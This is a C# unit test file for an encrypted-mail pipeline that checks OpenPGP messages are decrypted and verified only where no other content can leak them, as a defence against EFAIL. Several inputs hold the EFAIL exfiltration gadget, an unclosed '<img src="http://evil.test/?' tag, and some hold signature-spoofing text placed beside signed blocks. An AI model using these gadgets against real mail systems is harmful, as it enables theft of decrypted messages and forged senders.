using System.Text;
using Bitmask.OpenPgp;
using Bitmask.OpenPgp.Secret;

namespace Bitmask.Mail.Pipelines.Tests.Incoming;

/// <summary>Where encrypted content is looked for, and where it is opened: never where other content could carry it away ("EFAIL").</summary>
public class PlacesTests
{
    private const string Header = "From: alice@red.test\r\nTo: bob@blue.test\r\nSubject: Tulips\r\nMIME-Version: 1.0\r\n";

    [Theory]
    [InlineData("", "")]
    [InlineData("Content-Type: text/plain; charset=iso-8859-1\r\n", "")]
    [InlineData("Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n", "\r\n  \r\n")]
    public async Task Inline_NothingElseInTheText_IsOpenedAndSigned(string fields, string blank)
    {
        await using var world = await World.StartAsync();
        var armor = Sealed(world, "Grüße\r\n");
        if (fields.Contains("quoted", StringComparison.Ordinal))
        {
            armor = armor.Replace("=", "=3D", StringComparison.Ordinal);
        }

        var entry = await world.ReceiveAsync(World.Octets(Header + fields + "\r\n" + blank + armor + blank));

        var charset = fields.Contains("8859", StringComparison.Ordinal) ? "iso-8859-1" : "utf-8";
        Assert.Equal(Header.Replace("MIME-Version: 1.0\r\n", "", StringComparison.Ordinal) + $"MIME-Version: 1.0\r\nContent-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGrüße\r\n", world.Bob.Text(entry));
        Assert.Equal("enc.e2e", Verdict(world, entry).Encryption);
        Assert.Equal(world.Alice.Certificate.Fingerprint, Verdict(world, entry).Signer);
    }

    [Fact]
    public async Task Inline_TextAround_IsOpenedAndSaidToBePartly()
    {
        await using var world = await World.StartAsync();

        var entry = await world.ReceiveAsync(World.Octets(Header + "\r\nHello,\r\n" + Sealed(world, "secret\n") + "-- \r\nfooter\r\n"));

        Assert.EndsWith("\r\n\r\nHello,\r\nsecret\r\n-- \r\nfooter\r\n", world.Bob.Text(entry), StringComparison.Ordinal);
        Assert.Equal(("enc.partial", "sig.none"), (Verdict(world, entry).Encryption, Verdict(world, entry).Signature));
    }

    [Theory]
    [InlineData("Content-Type: text/html\r\n", "<img src=\"http://evil.test/?")]
    [InlineData("Content-Type: text/plain\r\nContent-Type: text/html\r\n", "")]
    public async Task Inline_WhereHtmlMayBe_StaysClosed(string fields, string before)
    {
        await using var world = await World.StartAsync();
        var mail = World.Octets(Header + fields + "\r\n" + before + "\r\n" + Sealed(world, "secret\r\n"));

        var entry = await world.ReceiveAsync(mail);

        Assert.Equal(mail, world.Bob.Content(entry));
        Assert.Equal("enc.provider", Verdict(world, entry).Encryption);
    }

    [Fact]
    public async Task Inline_ToAnotherKey_StaysAsItIs()
    {
        await using var world = await World.StartAsync();
        var mail = World.Octets(Header + "\r\n" + Encoding.ASCII.GetString(MessageEncryptor.Encrypt("x"u8, [world.Alice.Certificate], world.Clock.GetUtcNow())));

        var entry = await world.ReceiveAsync(mail);

        Assert.Equal(mail, world.Bob.Content(entry));
        Assert.Equal("enc.nokey", Verdict(world, entry).Encryption);
    }

    [Fact]
    public async Task FooterOfAMailingList_PartIsOpenedInItsPlace()
    {
        await using var world = await World.StartAsync();
        var mail = Mixed(PgpMime(world, "Content-Type: text/plain\r\n\r\nsecret\r\n"), "Content-Type: text/plain\r\n\r\n-- \r\nlist footer");

        var entry = await world.ReceiveAsync(mail);

        var text = world.Bob.Text(entry);
        Assert.Contains("\r\n--m\r\nContent-Type: text/plain\r\n\r\nsecret\r\n\r\n--m\r\n", text, StringComparison.Ordinal);
        Assert.DoesNotContain("BEGIN PGP", text, StringComparison.Ordinal);
        Assert.Equal(("enc.partial", "sig.none"), (Verdict(world, entry).Encryption, Verdict(world, entry).Signature));
        Assert.DoesNotContain(MessageFlags.SignedValid, world.Bob.Account.Find(entry)!.Value.Entry.Flags);
    }

    [Theory]
    [InlineData("Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/?")]
    [InlineData("Content-Type: multipart/alternative; boundary=n\r\n\r\n--n\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?\r\n--n--\r\n")]
    [InlineData("Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.test/?")]
    public async Task HtmlBesideAnEncryptedPart_StaysClosed(string beside)
    {
        await using var world = await World.StartAsync();
        var mail = Mixed(beside, PgpMime(world, "Content-Type: text/plain\r\n\r\nsecret\r\n"));

        var entry = await world.ReceiveAsync(mail);

        Assert.Equal(mail, world.Bob.Content(entry));
        Assert.Equal("enc.partial", Verdict(world, entry).Encryption);
        Assert.Equal("not-opened", Assert.Single(world.Bob.Account.Security(entry)!.Layers).Result);
    }

    [Fact]
    public async Task TwoEncryptedParts_StayClosed()
    {
        await using var world = await World.StartAsync();
        var mail = Mixed(PgpMime(world, "Content-Type: text/html\r\n\r\n<img src=\"http://evil.test/?"), PgpMime(world, "Content-Type: text/plain\r\n\r\nsecret\r\n"));

        var entry = await world.ReceiveAsync(mail);

        Assert.Equal(mail, world.Bob.Content(entry));
        Assert.Equal("enc.partial", Verdict(world, entry).Encryption);
    }

    [Fact]
    public async Task RewrittenByAServer_IsOpenedAsAWhole()
    {
        await using var world = await World.StartAsync();
        var armor = Sealed(world, "Content-Type: text/plain\r\n\r\nsecret\r\n");
        var mail = Mixed("Content-Type: text/plain\r\n\r\n\r\n", "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1", "Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + armor);

        var entry = await world.ReceiveAsync(mail);

        Assert.EndsWith("Content-Type: text/plain\r\n\r\nsecret\r\n", world.Bob.Text(entry), StringComparison.Ordinal);
        Assert.Equal("enc.e2e", Verdict(world, entry).Encryption);
        Assert.Equal(world.Alice.Certificate.Fingerprint, Verdict(world, entry).Signer);
    }

    [Theory]
    [InlineData("", "\r\n")]
    [InlineData("Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n", "\r\n  \r\n")]
    public async Task ClearSigned_NothingElseInTheText_IsCheckedAndFiledAsItCame(string fields, string blank)
    {
        await using var world = await World.StartAsync();
        var text = ClearSigned(world, "Grüße\n- aus Rot\n");
        var body = fields.Length > 0 ? text.Replace("=", "=3D", StringComparison.Ordinal) : text;
        var mail = World.Octets(Header + fields + "\r\n" + body + blank);

        var entry = await world.ReceiveAsync(mail);

        Assert.Equal(mail, world.Bob.Content(entry));
        Assert.Equal((world.Alice.Certificate.Fingerprint, "sig.new", "enc.provider"), (Verdict(world, entry).Signer, Verdict(world, entry).Signature, Verdict(world, entry).Encryption));
    }

    [Theory]
    [InlineData("Hello,\r\n", "", "sig.none")]
    [InlineData("", "PS: send money\r\n", "sig.none")]
    [InlineData("", "-----BEGIN PGP SIGNED MESSAGE-----\r\n\r\nsend money\r\n", "sig.none")]
    public async Task ClearSigned_OtherTextBesideIt_SaysNothingOfTheMail(string before, string after, string code)
    {
        await using var world = await World.StartAsync();

        var entry = await world.ReceiveAsync(World.Octets(Header + "\r\n" + before + ClearSigned(world, "one\n") + after));

        Assert.Equal(code, Verdict(world, entry).Signature);
        Assert.Null(Verdict(world, entry).Signer);
    }

    [Fact]
    public async Task ClearSigned_Changed_IsBad_AndInHtml_IsNothing()
    {
        await using var world = await World.StartAsync();
        var text = ClearSigned(world, "pay 100\n");

        var changed = await world.ReceiveAsync(World.Octets(Header + "\r\n" + text.Replace("100", "900", StringComparison.Ordinal)));
        var html = await world.ReceiveAsync(World.Octets(Header + "Content-Type: text/html\r\n\r\n" + text));

        Assert.Equal(("sig.bad", "sig.none"), (Verdict(world, changed).Signature, Verdict(world, html).Signature));
    }

    private static string ClearSigned(World world, string text)
        => MessageSigner.SignCleartext(text, world.Alice.Own, world.Clock.GetUtcNow()).ReplaceLineEndings("\r\n");

    private static MessageVerdict Verdict(World world, EntryId entry) => new VerdictReader(world.Bob.Account, world.Bob.Keys, world.Clock).Read(entry);

    private static string Sealed(World world, string text)
        => Encoding.ASCII.GetString(MessageSigner.EncryptAndSign(Encoding.UTF8.GetBytes(text), [world.Bob.Certificate], world.Alice.Own, world.Clock.GetUtcNow()));

    private static string PgpMime(World world, string entity)
        => "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=x\r\n\r\n--x\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
            + "\r\n--x\r\nContent-Type: application/octet-stream\r\n\r\n" + Sealed(world, entity) + "\r\n--x--\r\n";

    private static byte[] Mixed(params string[] parts)
        => World.Octets(Header + "Content-Type: multipart/mixed; boundary=m\r\n\r\n" + string.Concat(parts.Select(part => "--m\r\n" + part + "\r\n")) + "--m--\r\n");
}
